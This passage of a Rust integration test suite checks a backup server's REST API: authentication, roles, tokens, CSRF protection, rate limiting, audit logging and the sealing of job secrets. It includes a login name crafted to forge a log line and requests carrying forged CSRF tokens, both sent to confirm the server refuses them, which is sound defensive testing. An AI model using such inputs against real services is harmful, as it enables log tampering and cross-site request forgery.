//! The REST API through the router: authentication, roles, validation, errors, audit.

use crate::changed;
use axum::body::Body;
use axum::http::{header, Request, StatusCode};
use http_body_util::BodyExt as _;
use serde_json::{json, Value};
use tower::ServiceExt as _;

use holdfast_server::app::{app, AppState};
use holdfast_server::http::SESSION_COOKIE;
use holdfast_server::serve::first_admin;
use holdfast_server::store::jobs::JobSecret;
use holdfast_server::store::{RunState, Store};

pub(crate) struct Api {
    pub app: axum::Router,
    pub store: Store,
    /// The agents' gateway, where a simulated agent can take orders.
    gateway: std::sync::Arc<holdfast_server::gateway::Gateway>,
    dir: tempfile::TempDir,
}

pub(crate) struct Reply {
    pub status: StatusCode,
    pub headers: axum::http::HeaderMap,
    pub body: Value,
}

impl Api {
    pub async fn new() -> Self {
        let dir = tempfile::tempdir().expect("tempdir");
        let store = Store::open(&Store::sqlite_url(dir.path()))
            .await
            .expect("store");
        first_admin(&store, Some("admin-password-1".to_owned().into()))
            .await
            .expect("admin");
        let state = AppState::new(
            store.clone(),
            "SHA256:test".into(),
            holdfast_server::vault::Vault::open(dir.path(), None).expect("vault"),
        )
        .expect("state");
        Self {
            gateway: state.gateway.clone(),
            app: app(state),
            store,
            dir,
        }
    }

    pub async fn call(
        &self,
        method: &str,
        path: &str,
        auth: Option<&str>,
        body: Option<Value>,
    ) -> Reply {
        let body = body.map(|b| ("application/json", b.to_string()));
        self.send(method, path, auth, body).await
    }

    /// A request with a body of any content type.
    pub async fn send(
        &self,
        method: &str,
        path: &str,
        auth: Option<&str>,
        body: Option<(&str, String)>,
    ) -> Reply {
        let mut req = Request::builder().method(method).uri(path);
        if let Some(a) = auth {
            req = if a.starts_with("hft_") {
                req.header(header::AUTHORIZATION, format!("Bearer {a}"))
            } else {
                req.header(header::COOKIE, format!("{SESSION_COOKIE}={a}"))
                    .header("x-csrf-token", holdfast_server::auth::csrf_token(a))
            };
        }
        let req = match body {
            Some((kind, b)) => req.header(header::CONTENT_TYPE, kind).body(Body::from(b)),
            None => req.body(Body::empty()),
        }
        .expect("request");
        let resp = self.app.clone().oneshot(req).await.expect("response");
        let status = resp.status();
        let headers = resp.headers().clone();
        let bytes = resp.into_body().collect().await.expect("body").to_bytes();
        let body = serde_json::from_slice(&bytes)
            .unwrap_or_else(|_| Value::String(String::from_utf8_lossy(&bytes).into_owned()));
        Reply {
            status,
            headers,
            body,
        }
    }

    /// Have the admin session `admin` create user `name` with `role` (password
    /// `long-enough-pw`), and log them in; their session.
    pub async fn user(&self, admin: &str, name: &str, role: &str, must_change: bool) -> String {
        let r = self
            .call(
                "POST",
                "/api/v1/users",
                Some(admin),
                Some(json!({"name": name, "password": "long-enough-pw", "role": role, "must_change_password": must_change})),
            )
            .await;
        assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
        assert_eq!(r.body["must_change_password"], must_change, "{}", r.body);
        self.login(name, "long-enough-pw").await
    }

    /// Log in; the session cookie's value.
    pub async fn login(&self, name: &str, password: &str) -> String {
        let r = self
            .call(
                "POST",
                "/api/v1/session",
                None,
                Some(json!({"name": name, "password": password})),
            )
            .await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.body);
        let cookie = r.headers[header::SET_COOKIE]
            .to_str()
            .expect("cookie")
            .to_owned();
        for attr in ["HttpOnly", "Secure", "SameSite=Strict"] {
            assert!(cookie.contains(attr), "{cookie}");
        }
        cookie
            .split(';')
            .next()
            .and_then(|kv| kv.split_once('='))
            .map(|(_, v)| v.to_owned())
            .expect("value")
    }
}

fn code(r: &Reply) -> &str {
    r.body["error"]["code"].as_str().unwrap_or("")
}

#[tokio::test]
async fn login_roles_tokens_and_audit() {
    let api = Api::new().await;
    // Nothing without authentication, with a JSON error that says so.
    let r = api.call("GET", "/api/v1/me", None, None).await;
    assert_eq!(
        (r.status, code(&r)),
        (StatusCode::UNAUTHORIZED, "unauthorized")
    );
    let r = api
        .call("GET", "/api/v1/users", Some("not-a-session"), None)
        .await;
    assert_eq!(r.status, StatusCode::UNAUTHORIZED);

    let admin = api.login("admin", "admin-password-1").await;
    let r = api.call("GET", "/api/v1/me", Some(&admin), None).await;
    assert_eq!(r.body["role"], "admin");

    // Validation: short password, bad name, unknown role, malformed JSON, duplicate.
    for (body, want) in [
        (
            json!({"name": "vera", "password": "short", "role": "viewer"}),
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        (
            json!({"name": "a b", "password": "long-enough-pw", "role": "viewer"}),
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        (
            json!({"name": "vera", "password": "long-enough-pw", "role": "root"}),
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        (json!({"name": "vera"}), StatusCode::UNPROCESSABLE_ENTITY),
    ] {
        let r = api
            .call("POST", "/api/v1/users", Some(&admin), Some(body))
            .await;
        assert_eq!((r.status, code(&r)), (want, "invalid"), "{}", r.body);
    }
    let r = api
        .call(
            "POST",
            "/api/v1/users",
            Some(&admin),
            Some(json!({"name": "vera", "password": "viewer-pass-1", "role": "viewer"})),
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    assert!(r.body.get("password_hash").is_none());
    let vera_id = r.body["id"].as_i64().expect("id");
    let r = api
        .call(
            "POST",
            "/api/v1/users",
            Some(&admin),
            Some(json!({"name": "vera", "password": "viewer-pass-1", "role": "viewer"})),
        )
        .await;
    assert_eq!((r.status, code(&r)), (StatusCode::CONFLICT, "conflict"));

    // Roles change in place; nobody lowers or disables themselves.
    for (role, want) in [("operator", "operator"), ("viewer", "viewer")] {
        let r = api
            .call(
                "PUT",
                &format!("/api/v1/users/{vera_id}"),
                Some(&admin),
                Some(json!({"role": role})),
            )
            .await;
        assert_eq!((r.status, &r.body["role"]), (StatusCode::OK, &json!(want)));
    }
    let r = api
        .call(
            "PUT",
            "/api/v1/users/1",
            Some(&admin),
            Some(json!({"role": "admin", "disabled": true})),
        )
        .await;
    assert_eq!(
        (r.status, code(&r)),
        (StatusCode::UNPROCESSABLE_ENTITY, "invalid")
    );

    // A viewer reads but cannot manage users.
    let vera = api.login("vera", "viewer-pass-1").await;
    let r = api.call("GET", "/api/v1/info", Some(&vera), None).await;
    assert_eq!(r.body["database"], "sqlite");
    let r = api.call("GET", "/api/v1/users", Some(&vera), None).await;
    assert_eq!((r.status, code(&r)), (StatusCode::FORBIDDEN, "forbidden"));
    let r = api.call("GET", "/api/v1/audit", Some(&vera), None).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);

    // Personal tokens: shown once, work as bearer, stop working when revoked.
    let r = api
        .call(
            "POST",
            "/api/v1/tokens",
            Some(&vera),
            Some(json!({"name": "monitoring"})),
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED);
    let secret = r.body["secret"].as_str().expect("secret").to_owned();
    let token_id = r.body["token"]["id"].as_i64().expect("id");
    let r = api.call("GET", "/api/v1/me", Some(&secret), None).await;
    assert_eq!(r.body["name"], "vera");
    let r = api.call("GET", "/api/v1/tokens", Some(&vera), None).await;
    assert!(
        !r.body.to_string().contains(&secret),
        "the secret is never listed"
    );
    let r = api
        .call(
            "DELETE",
            &format!("/api/v1/tokens/{token_id}"),
            Some(&admin),
            None,
        )
        .await;
    assert_eq!(r.status, StatusCode::NOT_FOUND, "only the owner revokes");
    let r = api
        .call(
            "DELETE",
            &format!("/api/v1/tokens/{token_id}"),
            Some(&vera),
            None,
        )
        .await;
    assert_eq!(r.status, StatusCode::NO_CONTENT);
    let r = api.call("GET", "/api/v1/me", Some(&secret), None).await;
    assert_eq!(r.status, StatusCode::UNAUTHORIZED);

    // A change made with a session cookie must repeat the session's CSRF token (another
    // site can make a browser send the cookie, not read the token); a GET needs none, and a
    // bearer token none either.
    // Logging out is a change too: another site cannot end a user's session.
    for (method, uri, sent) in [
        ("POST", "/api/v1/tokens", None),
        ("POST", "/api/v1/tokens", Some("forged-token")),
        ("DELETE", "/api/v1/session", None),
        ("DELETE", "/api/v1/session", Some("forged-token")),
    ] {
        let mut req = Request::builder()
            .method(method)
            .uri(uri)
            .header(header::COOKIE, format!("{SESSION_COOKIE}={vera}"))
            .header(header::CONTENT_TYPE, "application/json");
        if let Some(t) = sent {
            req = req.header("x-csrf-token", t);
        }
        let resp = api
            .app
            .clone()
            .oneshot(
                req.body(Body::from(r#"{"name": "csrf"}"#))
                    .expect("request"),
            )
            .await
            .expect("response");
        assert_eq!(
            resp.status(),
            StatusCode::FORBIDDEN,
            "{method} {uri} {sent:?}"
        );
        let bytes = resp.into_body().collect().await.expect("body").to_bytes();
        let body: Value = serde_json::from_slice(&bytes).expect("json");
        assert_eq!(body["error"]["code"], "csrf", "{body}");
    }
    let r = api.call("GET", "/api/v1/me", Some(&vera), None).await;
    assert_eq!(
        r.status,
        StatusCode::OK,
        "the session outlived a forged logout"
    );
    let r = api.call("GET", "/api/v1/tokens", Some(&vera), None).await;
    assert!(
        !r.body.to_string().contains("\"csrf\""),
        "nothing was created"
    );
    let r = api
        .call(
            "POST",
            "/api/v1/tokens",
            Some(&vera),
            Some(json!({"name": "automation"})),
        )
        .await;
    let bearer = r.body["secret"].as_str().expect("secret").to_owned();
    let r = api
        .call(
            "POST",
            "/api/v1/tokens",
            Some(&bearer),
            Some(json!({"name": "by token"})),
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);

    // Logout ends the session.
    let r = api
        .call("DELETE", "/api/v1/session", Some(&vera), None)
        .await;
    assert_eq!(r.status, StatusCode::NO_CONTENT);
    let r = api.call("GET", "/api/v1/me", Some(&vera), None).await;
    assert_eq!(r.status, StatusCode::UNAUTHORIZED);

    // Password change needs the current password.
    let r = api
        .call(
            "PUT",
            "/api/v1/me/password",
            Some(&admin),
            Some(json!({"current": "wrong", "new": "new-admin-pass-2"})),
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    let r = api
        .call(
            "PUT",
            "/api/v1/me/password",
            Some(&admin),
            Some(json!({"current": "admin-password-1", "new": "new-admin-pass-2"})),
        )
        .await;
    assert_eq!(r.status, StatusCode::NO_CONTENT);
    api.login("admin", "new-admin-pass-2").await;

    // Users page, and deleting one (not oneself).
    let r = api
        .call("GET", "/api/v1/users?limit=1", Some(&admin), None)
        .await;
    assert_eq!(r.body["items"].as_array().map(Vec::len), Some(1));
    assert!(r.body["next"].is_i64());
    let r = api
        .call("GET", "/api/v1/users?limit=0", Some(&admin), None)
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    let r = api
        .call(
            "DELETE",
            &format!("/api/v1/users/{vera_id}"),
            Some(&admin),
            None,
        )
        .await;
    assert_eq!(r.status, StatusCode::NO_CONTENT);

    // The audit log names who did what.
    let r = api.call("GET", "/api/v1/audit", Some(&admin), None).await;
    let actions: Vec<&str> = r.body["items"]
        .as_array()
        .expect("items")
        .iter()
        .filter_map(|e| e["action"].as_str())
        .collect();
    for a in [
        "create_user",
        "create_token",
        "revoke_token",
        "change_password",
        "delete_user",
        "login",
    ] {
        assert!(actions.contains(&a), "{a} missing from {actions:?}");
    }
}

#[tokio::test]
async fn failed_logins_are_rate_limited() {
    let api = Api::new().await;
    for _ in 0..5 {
        let r = api
            .call(
                "POST",
                "/api/v1/session",
                None,
                Some(json!({"name": "admin", "password": "guess"})),
            )
            .await;
        assert_eq!(
            (r.status, code(&r)),
            (StatusCode::UNAUTHORIZED, "bad_login")
        );
    }
    let r = api
        .call(
            "POST",
            "/api/v1/session",
            None,
            Some(json!({"name": "admin", "password": "admin-password-1"})),
        )
        .await;
    assert_eq!(
        (r.status, code(&r)),
        (StatusCode::TOO_MANY_REQUESTS, "rate_limited")
    );
    assert!(r.headers.contains_key(header::RETRY_AFTER));
    // An unknown user fails the same way as a wrong password.
    let api = Api::new().await;
    let r = api
        .call(
            "POST",
            "/api/v1/session",
            None,
            Some(json!({"name": "ghost\nINFO forged line", "password": "x"})),
        )
        .await;
    assert_eq!(code(&r), "bad_login");
    // Failed logins are in the audit log, the name as typed with its newline escaped.
    let admin = api.login("admin", "admin-password-1").await;
    let r = api.call("GET", "/api/v1/audit", Some(&admin), None).await;
    let failed: Vec<&Value> = r.body["items"]
        .as_array()
        .expect("audit")
        .iter()
        .filter(|e| e["action"] == "login_failed")
        .collect();
    assert_eq!(failed.len(), 1, "{}", r.body);
    assert_eq!(failed[0]["actor"], "ghost\\nINFO forged line", "{}", r.body);
}

#[tokio::test]
async fn health_metrics_and_unknown_paths() {
    let api = Api::new().await;
    let r = api.call("GET", "/healthz", None, None).await;
    assert_eq!(r.status, StatusCode::OK);
    let r = api.call("GET", "/metrics", None, None).await;
    let text = r.body.as_str().expect("text");
    assert!(text.contains("holdfast_http_requests_total 1"), "{text}");
    assert!(text.contains("holdfast_users 1"));
    let r = api.call("GET", "/api/v1/nothing-here", None, None).await;
    assert_eq!((r.status, code(&r)), (StatusCode::NOT_FOUND, "not_found"));
    // Outside the API a missing page is a page, not a JSON body.
    let r = api.call("GET", "/no-such-page", None, None).await;
    assert_eq!(r.status, StatusCode::NOT_FOUND);
    let page = r.body.as_str().unwrap_or_default();
    assert!(
        page.contains("<html") && page.contains("/no-such-page"),
        "{page}"
    );
}

#[tokio::test]
async fn openapi_document_lists_every_route() {
    let api = Api::new().await;
    let r = api.call("GET", "/api/v1/openapi.json", None, None).await;
    assert_eq!(r.status, StatusCode::OK);
    assert!(r.body["openapi"]
        .as_str()
        .is_some_and(|v| v.starts_with("3.")));
    let paths = r.body["paths"].as_object().expect("paths");
    for p in [
        "/api/v1/session",
        "/api/v1/me",
        "/api/v1/me/password",
        "/api/v1/users",
        "/api/v1/users/{id}",
        "/api/v1/tokens",
        "/api/v1/tokens/{id}",
        "/api/v1/info",
        "/api/v1/audit",
        "/api/v1/enrollment-tokens",
        "/api/v1/enrollment-tokens/{id}",
        "/api/v1/agents",
        "/api/v1/agents/{id}",
        "/api/v1/agents/{id}/inventory/refresh",
        "/api/v1/targets",
        "/api/v1/targets/{id}",
        "/api/v1/jobs",
        "/api/v1/jobs/{id}",
        "/api/v1/jobs/{id}/run",
        "/api/v1/jobs/{id}/cancel",
        "/api/v1/jobs/{id}/check",
        "/api/v1/jobs/preview",
        "/api/v1/targets/{id}/test",
        "/api/v1/jobs/{id}/export",
        "/api/v1/jobs/import",
        "/api/v1/reports",
        "/api/v1/reports/{id}",
        "/api/v1/reports/{id}/download",
        "/api/v1/images",
        "/api/v1/sites",
        "/api/v1/sites/{id}",
        "/api/v1/agents/{id}/site",
        "/api/v1/settings/smtp",
        "/api/v1/settings/smtp/test",
        "/api/v1/settings/security",
        "/api/v1/settings/alerts",
        "/api/v1/mail",
        "/healthz",
        "/metrics",
    ] {
        assert!(paths.contains_key(p), "{p} is not documented");
    }
    let schemes = &r.body["components"]["securitySchemes"];
    assert!(schemes["session"].is_object() && schemes["token"].is_object());
}

/// The document is valid OpenAPI (checked by `openapi-spec-validator`, which the test
/// command installs from PyPI), every operation has a unique id and a summary, only path
/// template variables are path parameters, and no success response is an untyped object.
#[tokio::test]
async fn openapi_document_validates_and_types_every_response() {
    let api = Api::new().await;
    let doc = api
        .call("GET", "/api/v1/openapi.json", None, None)
        .await
        .body;
    let mut ids = std::collections::HashSet::new();
    let mut problems = Vec::new();
    for (path, item) in doc["paths"].as_object().expect("paths") {
        for (method, op) in item.as_object().expect("path item") {
            let at = format!("{method} {path}");
            let id = op["operationId"].as_str().unwrap_or_default();
            if id.is_empty() || !ids.insert(id.to_owned()) {
                problems.push(format!("{at}: operation id '{id}' missing or used twice"));
            }
            if op["summary"].as_str().unwrap_or_default().is_empty() {
                problems.push(format!("{at}: no summary"));
            }
            for p in op["parameters"].as_array().into_iter().flatten() {
                let name = p["name"].as_str().unwrap_or_default();
                if p["in"] == "path" && !path.contains(&format!("{{{name}}}")) {
                    problems.push(format!("{at}: '{name}' is declared a path parameter"));
                }
            }
            for (status, resp) in op["responses"].as_object().into_iter().flatten() {
                if !status.starts_with('2') {
                    continue;
                }
                for (mime, content) in resp["content"].as_object().into_iter().flatten() {
                    let schema = &content["schema"];
                    let untyped = schema == &serde_json::json!({"type": "object"})
                        || schema == &serde_json::json!({});
                    if mime == "application/json" && untyped {
                        problems.push(format!("{at}: {status} is an untyped object"));
                    }
                }
            }
        }
    }
    assert!(problems.is_empty(), "{}", problems.join("\n"));
    assert!(
        ids.contains("agents_list") && ids.contains("jobs_list"),
        "{ids:?}"
    );

    // The validator, from PyPI (scripts/test.sh installs it under /var/tmp/holdfast-pytools).
    let tools = std::env::var("HOLDFAST_PYTOOLS")
        .unwrap_or_else(|_| "/var/tmp/holdfast-pytools".to_owned());
    if !std::path::Path::new(&tools)
        .join("openapi_spec_validator")
        .exists()
    {
        assert!(
            std::env::var_os("CI").is_none(),
            "openapi-spec-validator is not installed in {tools} (CI is set: run scripts/test.sh, which installs it)"
        );
        eprintln!("skipping the OpenAPI validation: openapi-spec-validator is not in {tools}");
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let file = dir.path().join("openapi.json");
    std::fs::write(&file, doc.to_string()).expect("write");
    let out = std::process::Command::new("python3")
        .args(["-m", "openapi_spec_validator"])
        .arg(&file)
        .env("PYTHONPATH", &tools)
        .output()
        .expect("python3");
    assert!(
        out.status.success(),
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

/// An agent `web01`, enrolled through the store: its id.
pub(crate) async fn enrolled_agent(store: &Store) -> i64 {
    changed(store, async |c| {
        c.create_enrollment_token("t", "token-hash", 1, i64::MAX, "admin")
            .await
    })
    .await
    .expect("token");
    changed(store, async |c| {
        c.enroll_agent("token-hash", "web01", "secret-hash").await
    })
    .await
    .expect("enrol")
    .expect("agent")
}

/// Targets and jobs: input checked with clear errors, secrets write-only, what a job names
/// must exist, and a run whose agent is offline ends with a report saying so.
#[tokio::test]
async fn targets_and_jobs_check_input_and_keep_secrets() {
    let api = Api::new().await;
    let admin = api.login("admin", "admin-password-1").await;
    let call = |m: &'static str, p: String, b: Option<Value>| {
        let admin = admin.clone();
        let api = &api;
        async move { api.call(m, &p, Some(&admin), b).await }
    };
    // An agent, enrolled through the store.
    let agent = enrolled_agent(&api.store).await;

    for (body, says) in [
        (json!({"name": "a", "url": "http://nas/x"}), "scheme"),
        (json!({"name": "a", "url": "sftp://u:pw@nas/x"}), "password"),
        (json!({"name": "", "url": "/srv"}), "name"),
        (json!({"name": "a", "url": "/srv", "bogus": 1}), "bogus"),
    ] {
        let r = call("POST", "/api/v1/targets".into(), Some(body)).await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);
        assert!(r.body.to_string().contains(says), "{}", r.body);
    }
    let r = call(
        "POST",
        "/api/v1/targets".into(),
        Some(json!({"name": "nas", "url": "smb://nas/backup/img", "username": "bk", "password": "target-pw-42"})),
    )
    .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    assert!(!r.body.to_string().contains("target-pw-42"));
    assert_eq!(r.body["credentials"]["password"], "set");
    assert_eq!(r.body["credentials"]["private_key"], "not set");
    let target = r.body["id"].as_i64().expect("id");
    // Editing without credentials keeps them; clearing forgets them.
    let r = call(
        "PUT",
        format!("/api/v1/targets/{target}"),
        Some(json!({"name": "nas", "url": "smb://nas/backup/images", "username": "bk"})),
    )
    .await;
    assert_eq!(r.body["credentials"]["password"], "set", "{}", r.body);
    let dup = call(
        "POST",
        "/api/v1/targets".into(),
        Some(json!({"name": "nas", "url": "/srv"})),
    )
    .await;
    assert_eq!(dup.status, StatusCode::CONFLICT, "{}", dup.body);

    let spec = json!({"agents": [agent], "source": "/dev/sda", "target_id": target, "encryption": "aes256"});
    for (body, says) in [
        (json!({"name": "j", "spec": spec}), "password"),
        (
            json!({"name": "j", "spec": {"agents": [999], "source": "/dev/sda", "target_id": target}}),
            "agent 999",
        ),
        (
            json!({"name": "j", "spec": {"agents": [agent], "source": "/dev/sda", "target_id": 999}}),
            "target 999",
        ),
        (
            json!({"name": "j", "spec": {"agents": [agent], "source": "sda", "target_id": target}}),
            "source",
        ),
        (
            json!({"name": "j", "spec": {"agents": [agent], "source": "/dev/sda", "target_id": target, "name_template": "$TEMPL:(Nope)"}}),
            "Nope",
        ),
        (
            json!({"name": "j", "spec": {"agents": [agent], "source": "/dev/sda", "target_id": target, "split_size": 1000}}),
            "split_size",
        ),
    ] {
        let r = call("POST", "/api/v1/jobs".into(), Some(body)).await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);
        assert!(r.body.to_string().contains(says), "{says}: {}", r.body);
    }
    // An id or a query value of the wrong type is a 400 with the JSON error body.
    for path in ["/api/v1/jobs/abc", "/api/v1/reports?limit=many"] {
        let r = call("GET", path.into(), None).await;
        assert_eq!(r.status, StatusCode::BAD_REQUEST, "{path}: {}", r.body);
        assert_eq!(r.body["error"]["code"], "bad_request", "{path}: {}", r.body);
    }
    // A blank wizard's preview (a target not chosen yet) is told which field is wrong, in
    // a sentence, without the parser's positions.
    let r = call(
        "POST",
        "/api/v1/jobs/preview".into(),
        Some(json!({"spec": {"agents": [], "source": "", "target_id": ""}})),
    )
    .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);
    let says = r.body["error"]["message"].as_str().unwrap_or_default();
    assert!(
        says.contains("'spec.target_id'") && says.contains("empty") && !says.contains("line 1"),
        "{says}"
    );
    let r = call(
        "POST",
        "/api/v1/jobs".into(),
        Some(json!({"name": "nightly", "spec": spec, "password": "image-pw-77"})),
    )
    .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    assert_eq!(r.body["password"], "set");
    assert!(!r.body.to_string().contains("image-pw-77"));
    let job = r.body["id"].as_i64().expect("id");
    // A target a job uses cannot be removed: the database refuses, the answer names the job.
    let r = call("DELETE", format!("/api/v1/targets/{target}"), None).await;
    assert_eq!(r.status, StatusCode::CONFLICT, "{}", r.body);
    assert!(
        r.body["error"]["message"]
            .as_str()
            .is_some_and(|m| m.contains("job(s) nightly")),
        "{}",
        r.body
    );

    // Export has no secret; an encrypting job imports disabled (no password yet).
    let r = call("GET", format!("/api/v1/jobs/{job}/export"), None).await;
    assert_eq!(r.status, StatusCode::OK);
    assert!(!r.body.to_string().contains("image-pw-77"));
    let mut doc = r.body.clone();
    doc["name"] = json!("nightly copy");
    let r = call("POST", "/api/v1/jobs/import".into(), Some(doc)).await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    assert_eq!(r.body["enabled"], false);
    assert_eq!(r.body["password"], "not set");

    // The same as XML, and back.
    let r = call("GET", format!("/api/v1/jobs/{job}/export?format=xml"), None).await;
    assert_eq!(r.headers[header::CONTENT_TYPE], "application/xml");
    let xml = r
        .body
        .as_str()
        .expect("xml")
        .replace("<name>nightly</name>", "<name>nightly xml</name>");
    assert!(
        xml.contains("<encryption>aes256</encryption>") && !xml.contains("image-pw-77"),
        "{xml}"
    );
    let r = api
        .send(
            "POST",
            "/api/v1/jobs/import",
            Some(&admin),
            Some(("application/xml", xml)),
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    assert_eq!(r.body["spec"]["encryption"], "aes256", "{}", r.body);
    let r = api
        .send(
            "POST",
            "/api/v1/jobs/import",
            Some(&admin),
            Some(("application/xml", "<report/>".into())),
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);

    // The agent is offline: the run ends at once, failed, saying why.
    let r = call("POST", format!("/api/v1/jobs/{job}/run"), None).await;
    assert_eq!(r.status, StatusCode::ACCEPTED, "{}", r.body);
    let run = &r.body["runs"][0];
    assert_eq!(run["status"], "failed", "{}", r.body);
    let id = run["id"].as_i64().expect("run id");
    let r = call("GET", format!("/api/v1/reports/{id}"), None).await;
    assert!(
        r.body["steps"][0]["detail"]
            .as_str()
            .is_some_and(|d| d.contains("web01 is not connected")),
        "{}",
        r.body
    );
    // Every request to an offline agent names its host.
    for (path, body) in [
        (format!("/api/v1/agents/{agent}/inventory/refresh"), None),
        (
            format!("/api/v1/targets/{target}/test"),
            Some(json!({"agent_id": agent})),
        ),
    ] {
        let r = call("POST", path, body).await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);
        assert!(
            r.body["error"]["message"]
                .as_str()
                .is_some_and(|m| m.contains("web01 is not connected")),
            "{}",
            r.body
        );
    }
    let r = call("POST", format!("/api/v1/jobs/{job}/check"), None).await;
    assert!(
        r.body["agents"][0]["result"]["checks"][0]["detail"]
            .as_str()
            .is_some_and(|m| m.contains("web01 is not connected")),
        "{}",
        r.body
    );
    // A run of the job still open on the agent: a second start is refused, naming the host,
    // the job and the open run.
    let open = changed(&api.store, async |c| {
        c.create_run(Some(job), agent, "j", "manual", None).await
    })
    .await
    .expect("run")
    .expect("created");
    let r = call("POST", format!("/api/v1/jobs/{job}/run"), None).await;
    assert_eq!(r.status, StatusCode::CONFLICT, "{}", r.body);
    let says = format!(
        "web01 is busy: job 'nightly' is already queued there (report {})",
        open.id
    );
    assert!(
        r.body["error"]["message"]
            .as_str()
            .is_some_and(|m| m.contains(&says)),
        "{}",
        r.body
    );
    assert!(api
        .store
        .run_ended_here(open.id, RunState::Cancelled, "")
        .await
        .expect("end"));
    let r = call(
        "POST",
        format!("/api/v1/jobs/{job}/run"),
        Some(json!({"agent_id": 5})),
    )
    .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);
    let r = call("GET", "/api/v1/reports?status=bogus".into(), None).await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);
    let r = call("GET", "/api/v1/reports?status=failed".into(), None).await;
    assert_eq!(
        r.body["items"].as_array().map(Vec::len),
        Some(1),
        "{}",
        r.body
    );
    let r = call(
        "GET",
        format!("/api/v1/reports/{id}/download?format=xml"),
        None,
    )
    .await;
    assert_eq!(r.headers[header::CONTENT_TYPE], "application/xml");
    assert!(
        r.body
            .as_str()
            .is_some_and(|x| x.contains("<status>failed</status>")),
        "{}",
        r.body
    );

    // A site with a default target: a job naming only the site runs on its agents.
    let r = call(
        "POST",
        "/api/v1/sites".into(),
        Some(json!({"name": "branch", "defaults": {"target_id": target, "folder": "$TEMPL:(ComputerName)",
            "notify": {"when": "on_failure", "recipients": ["ops@example.test"]}}})),
    )
    .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    let site = r.body["id"].as_i64().expect("site");
    let r = call(
        "PUT",
        format!("/api/v1/agents/{agent}/site"),
        Some(json!({"site_id": site})),
    )
    .await;
    assert_eq!(r.status, StatusCode::NO_CONTENT, "{}", r.body);
    let r = call("GET", format!("/api/v1/sites/{site}"), None).await;
    assert_eq!(r.body["agents"], json!([agent]), "{}", r.body);
    let r = call(
        "POST",
        "/api/v1/jobs".into(),
        Some(json!({"name": "site nightly", "spec": {"site_id": site, "source": "/dev/sda"}})),
    )
    .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    let site_job = r.body["id"].as_i64().expect("job");
    let r = call("POST", format!("/api/v1/jobs/{site_job}/run"), None).await;
    assert_eq!(r.body["runs"][0]["agent_id"], agent, "{}", r.body);
    // The site's rule mails the failure (the agent is offline): queued in the outbox.
    let r = call("GET", "/api/v1/mail".into(), None).await;
    assert!(
        r.body.to_string().contains("ops@example.test"),
        "{}",
        r.body
    );
    for (path, what) in [
        (format!("/api/v1/sites/{site}"), "job"),
        (format!("/api/v1/targets/{target}"), "job"),
    ] {
        let r = call("DELETE", path, None).await;
        assert_eq!(r.status, StatusCode::CONFLICT, "{}", r.body);
        assert!(r.body.to_string().contains(what), "{}", r.body);
    }
    let r = call(
        "POST",
        "/api/v1/jobs".into(),
        Some(json!({"name": "nowhere", "spec": {"site_id": 999, "source": "/dev/sda"}})),
    )
    .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);

    // The vault keeps secrets sealed in the store.
    let stored = api
        .store
        .target(target)
        .await
        .expect("read")
        .expect("target");
    assert!(stored
        .secret
        .as_deref()
        .is_some_and(|s| s.starts_with("v1:") && !s.contains("target-pw-42")));
}

/// A job's LUKS passphrase: only for a job that encrypts, sealed under its own context,
/// write-only (not in the job, its list, its export or its console pages), in the order its
/// agent gets, and forgotten when cleared.
#[tokio::test]
async fn a_jobs_luks_passphrase_needs_encryption_stays_sealed_and_reaches_the_order() {
    use holdfast_server::jobs::{job_context, job_luks_context};
    use holdfast_server::vault::Vault;

    const LUKS: &str = "luks passphrase 31";
    const IMAGE: &str = "image password 31";
    let api = Api::new().await;
    let admin = api.login("admin", "admin-password-1").await;
    let call = |m: &'static str, p: String, b: Option<Value>| {
        let admin = admin.clone();
        let api = &api;
        async move { api.call(m, &p, Some(&admin), b).await }
    };
    let agent = enrolled_agent(&api.store).await;
    let r = call(
        "POST",
        "/api/v1/targets".into(),
        Some(json!({"name": "nas", "url": "/srv/images"})),
    )
    .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    let target = r.body["id"].as_i64().expect("id");
    let plain = json!({"agents": [agent], "source": "/dev/vg0/secret", "target_id": target});
    let mut encrypted = plain.clone();
    encrypted["encryption"] = json!("aes256");

    // Refused: no encryption (the contents would be stored in clear), and too long.
    let r = call(
        "POST",
        "/api/v1/jobs".into(),
        Some(json!({"name": "luks", "spec": plain, "luks_passphrase": LUKS})),
    )
    .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);
    assert_eq!(
        r.body["error"]["message"],
        "a job with a LUKS passphrase must encrypt its images: the volume's contents are stored decrypted",
        "{}",
        r.body
    );
    let r = call(
        "POST",
        "/api/v1/jobs".into(),
        Some(
